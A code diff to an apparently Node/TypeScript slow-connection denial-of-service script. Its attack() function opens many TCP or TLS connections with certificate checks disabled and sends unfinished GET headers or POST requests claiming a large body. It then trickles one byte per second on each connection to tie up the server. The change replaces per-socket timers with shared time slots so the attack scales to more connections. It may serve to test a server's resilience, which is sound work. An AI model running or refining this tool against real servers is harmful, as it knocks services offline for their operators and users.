@@ -16,7 +16,6 @@ const { values } = parseArgs({
 const port = Number(values.port)
 const wanted = Number(values.connections)
 const addresses = 200
-const byteMs = 1_000
 /** Connections opened at once, and how often: 400 a second, of which those that are thrown out need half. */
 const step = 4
 const stepMs = 10
@@ -24,6 +23,12 @@ const stepMs = 10
 const open = { head: 0, body: 0 }
 let opened = 0
 let connecting = 0
+/**
+ * A byte a second each, spread over the second as those of strangers are: so many turns, one after another, each with the
+ * connections that are due in it. Timers of their own would fall due together, more and more of them.
+ */
+const turns: readonly Set<Socket>[] = Array.from({ length: 1_000 / stepMs }, () => new Set())
+let turnsDone = 0
 
 function attack(): void {
   const kind = open.head + connecting / 2 < wanted / 2 ? 'head' : 'body'
@@ -32,7 +37,7 @@ function attack(): void {
     ? connectTls({ ...to, rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] })
     : connectTcp(to)
   connecting++
-  let timer: NodeJS.Timeout | undefined
+  const due = turns[opened % turns.length]
   socket.on('error', () => undefined)
   socket.resume()
   socket.once(values.tls ? 'secureConnect' : 'connect', () => {
@@ -43,16 +48,17 @@ function attack(): void {
         ? 'GET / HTTP/1.1\r\nHost: a\r\nX-Slow: '
         : 'POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n',
     )
-    timer = setInterval(() => socket.writable && socket.write('x'), byteMs)
+    due?.add(socket)
   })
   socket.on('close', () => {
-    clearInterval(timer)
-    if (timer) open[kind]--
+    if (due?.delete(socket)) open[kind]--
     else connecting--
   })
 }
 
 setInterval(() => {
+  for (; turnsDone < performance.now() / stepMs; turnsDone++)
+    for (const socket of turns[turnsDone % turns.length] ?? []) if (socket.writable) socket.write('x')
   for (let i = 0; i < step && open.head + open.body + connecting < wanted; i++) attack()
 }, stepMs)
 
